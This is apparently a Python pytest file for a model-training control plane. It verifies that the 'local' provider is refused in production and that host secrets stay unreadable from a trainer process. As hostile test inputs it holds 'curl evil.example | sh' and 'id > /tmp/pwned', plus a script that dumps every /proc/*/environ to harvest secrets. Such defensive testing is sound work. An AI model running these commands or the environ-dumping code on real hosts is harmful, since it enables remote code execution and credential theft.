"""No code execution on the control-plane host through the `local` provider.

- `local` compute and storage exist only outside production: refused at save (422 naming the
  provider / kind), absent from the catalog and the OpenAPI there;
- the trainer command is an operator setting (TENSORANT_TRAINER_COMMAND), never a connection
  field; rows saved with the old field still load;
- the local agent's environment is built from nothing, and the host makes itself
  non-dumpable before starting agents: a trainer that dumps its environment, the agent's
  /proc/<pid>/environ and every /proc/*/environ it can open finds none of the host's secrets.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shared.models import Role
from shared.providers import registry
from shared.providers.base import RunRef
from shared.providers.local.compute import LocalCompute
from shared.providers.local.config import LocalConfig
from shared.security import mint_user_token
from shared.settings import Settings, reset_settings
from tests.test_agent_local import FakeAgentApi

REPO = Path(__file__).resolve().parent.parent
PRODUCTION = {
    "TENSORANT_ENV": "production",
    "TENSORANT_JWT_SECRET": "a-production-secret-that-is-long-enough-0123456789",
    "TENSORANT_ENCRYPTION_KEY": "cHJvZHVjdGlvbi1rZXktMzItYnl0ZXMtbG9uZyEhISE=",
    "TENSORANT_PUBLIC_URL": "https://tensorant-prod.azurewebsites.net",
}


@pytest.fixture
def harness(env: dict[str, str]) -> Iterator[Any]:
    from tests.harness import Harness

    h = Harness()
    yield h
    h.close()


def _go_production(h: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Switch the app to production settings, with tokens within production's 24 h limit."""
    for k, v in PRODUCTION.items():
        monkeypatch.setenv(k, v)
    monkeypatch.delenv("TENSORANT_ALLOW_TEST_MODELS")  # a test-only allowance production refuses
    reset_settings()
    h.owner = mint_user_token("owner@a", h.org, Role.owner, ttl_s=3600)
    h.member = mint_user_token("member@a", h.org, Role.member, ttl_s=3600)


def test_local_compute_and_storage_refused_at_save_in_production(harness: Any,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    _go_production(harness, monkeypatch)
    status, body, _ = harness.call("PUT", "/api/connections/compute/local", json_body={})
    assert status == 422 and body["errors"][0]["field"] == "provider", body
    assert "local provider exists only outside production" in body["detail"]
    status, body, _ = harness.call("PUT", "/api/connections/storage", json_body={"kind": "local"})
    assert status == 422 and body["errors"][0]["field"] == "kind", body
    assert "local storage exists only outside production" in body["detail"]
    assert "local" not in registry.compute_names()
    assert "local" in registry.compute_names(Settings())  # development keeps it


def test_local_absent_from_catalog_and_openapi_in_production(harness: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TENSORANT_ENCRYPTION_KEY", PRODUCTION["TENSORANT_ENCRYPTION_KEY"])  # the row must open later
    reset_settings()
    conn = harness.save_compute("local", {})  # saved while in development
    assert conn["status"] == "connected", conn
    assert any(o["provider"] == "local" for o in harness.ok("GET", "/api/catalog/gpus")["items"])
    _go_production(harness, monkeypatch)
    listing = harness.ok("GET", "/api/catalog/gpus")
    assert not [o for o in listing["items"] if o["provider"] == "local"]
    assert not [c for c in listing["catalogs"] if c["provider"] == "local"]
    status, body, _ = harness.call("GET", "/api/catalog/gpus", params={"provider": "local"})
    assert status == 422 and body["errors"][0]["field"] == "provider"
    doc = json.dumps(harness.ok("GET", "/api/openapi.json", token=None))
    assert "LocalConfig" not in doc and "LocalStorageConfig" not in doc and '"local"' not in doc
    # A row saved before production is never run on the production host.
    from shared.errors import PermanentError
    from shared.runs.org_backends import compute_for

    with pytest.raises(PermanentError, match="only outside production"):
        compute_for(harness.ctx, harness.org, "local")


def test_trainer_command_is_not_a_connection_field(harness: Any) -> None:
    status, body, _ = harness.call("PUT", "/api/connections/compute/local",
                                   json_body={"trainer_command": "curl evil.example | sh"})
    assert status == 422 and body["errors"][0]["field"] == "trainer_command", body
    assert "TENSORANT_TRAINER_COMMAND" in body["detail"]
    # A row saved by an older version still loads, without the field.
    old = LocalConfig.model_validate({"price_per_hour": 0.5, "trainer_command": "id > /tmp/pwned"})
    assert old.model_dump() == {"price_per_hour": 0.5}
    compute = LocalCompute(old, Settings(trainer_command=""))
    assert "pwned" not in compute.trainer_command()  # the operator's (here: the default), never the org's


# The trainer: dump its own environment and the agent's (its parent) into the log, and every
# /proc/*/environ it can open (any same-user process: the host too) into a file.
DUMP = r'''
import glob, os, sys
lines = ["== env"] + [f"{k}={v}" for k, v in os.environ.items()]
try:
    agent = open(f"/proc/{os.getppid()}/environ", "rb").read().decode("utf-8", "replace")
    lines += ["== agent environ"] + agent.split("\0")
except OSError as exc:
    lines.append(f"== agent environ unreadable: {exc}")
for line in lines:
    print(line[:1500], flush=True)
everything = list(lines)
for path in sorted(glob.glob("/proc/[0-9]*/environ")):
    try:
        data = open(path, "rb").read().decode("utf-8", "replace")
    except OSError:
        everything.append(f"== {path} unreadable")
        continue
    everything += [f"== {path}"] + data.split("\0")
with open(sys.argv[1] + ".tmp", "w") as f:
    f.write("\n".join(everything))
os.rename(sys.argv[1] + ".tmp", sys.argv[1])
sys.exit(3)
'''

# The control-plane host: a process whose own environment holds the secrets, launching one local run.
HOST = r'''
import sys
from pathlib import Path
from shared.providers.base import Bootstrap, LaunchSpec, RunRef
from shared.providers.local.compute import LocalCompute
from shared.providers.local.config import LocalConfig
from shared.settings import Settings
from shared.org_storage.base import dataset_key
from shared.org_storage.config import LocalStorageConfig
from shared.org_storage.local import LocalStorage

root, api_url, deployment, command = sys.argv[1:5]
settings = Settings(deployment_id=deployment, local_root=root + "/local", trainer_command=command)
storage = LocalStorage(LocalStorageConfig(), Path(root) / "storage")
storage.put(dataset_key("p1", "d1"), b'{"text": "a"}\n')
storage_env, _ = storage.agent_env("run-env", dataset_key("p1", "d1"))
env = {"TENSORANT_RUN_ID": "run-env", "TENSORANT_API_URL": api_url, "TENSORANT_RUN_TOKEN": "run-token-123456",
       "TENSORANT_BASE_MODEL": "tensorant/smoke-tiny", **storage_env}
compute = LocalCompute(LocalConfig(), settings)
compute.launch(LaunchSpec(ref=RunRef(deployment, "o1", "run-env"), offer=compute.offers()[0],
                          bootstrap=Bootstrap(container_image="none", env=env,
                                              secret_env_keys=frozenset({"TENSORANT_RUN_TOKEN"}))))
import ctypes
print("launched dumpable=%d" % ctypes.CDLL(None).prctl(3, 0, 0, 0, 0), flush=True)  # PR_GET_DUMPABLE
sys.stdin.read()  # alive, as a host is, until the test closes stdin
'''


def test_host_secrets_are_not_readable_from_a_local_trainer(tmp_path: Path) -> None:
    api = FakeAgentApi()
    deployment = "ls" + secrets.token_hex(3)
    secret_values = {
        "TENSORANT_JWT_SECRET": "jwt-" + secrets.token_hex(16),
        "TENSORANT_ENCRYPTION_KEY": "key-" + secrets.token_hex(16),
        "AzureWebJobsStorage": "DefaultEndpointsProtocol=https;AccountKey=ak-" + secrets.token_hex(16),
    }
    (tmp_path / "dump.py").write_text(DUMP)
    (tmp_path / "host.py").write_text(HOST)
    dump_file = tmp_path / "everything.txt"
    command = f"{sys.executable} {tmp_path / 'dump.py'} {dump_file}"
    host_env = dict(os.environ) | secret_values | {"PYTHONPATH": str(REPO)}
    host = subprocess.Popen([sys.executable, str(tmp_path / "host.py"), str(tmp_path), api.url, deployment, command],
                            env=host_env, cwd=tmp_path, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert host.stdout is not None
        launched, _, host_dumpable = host.stdout.readline().strip().partition(" dumpable=")
        assert launched == "launched"
        done = api.wait_complete("run-env", timeout=60)
        assert done["status"] == "failed" and done["exit_code"] == 3
        deadline = time.monotonic() + 10
        while not dump_file.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        everything = dump_file.read_text()
        logged = "\n".join(line for hb in api.of("run-env", "heartbeat") for line in hb.get("logs", []))
        # The dump ran and read what it could: its own env and the agent's environ.
        assert "TENSORANT_OUTPUT_DIR=" in logged and "== agent environ" in logged
        assert "TENSORANT_MANAGED=true" in logged
        assert f"== /proc/{host.pid}/environ" in everything  # the host was tried
        for name, value in secret_values.items():
            assert value not in logged, f"{name} reached the trainer's log"
        # The host made itself non-dumpable before starting the agent, so a same-user trainer
        # cannot open /proc/<host>/environ. Root reads every process's files whatever the flag
        # (CAP_SYS_PTRACE): there only the flag itself is checked. Run the dev host as a user.
        assert host_dumpable == "0"
        if os.geteuid() != 0:
            for name, value in secret_values.items():
                assert value not in everything, f"{name} is readable from the trainer"
    finally:
        if host.stdin:
            host.stdin.close()
        host.wait(timeout=30)
        compute = LocalCompute(LocalConfig(), Settings(deployment_id=deployment, local_root=str(tmp_path / "local")))
        for res in list(compute.list_managed()):
            compute.release(RunRef(deployment, res.org or "o1", res.run_id), [])
        api.server.shutdown()
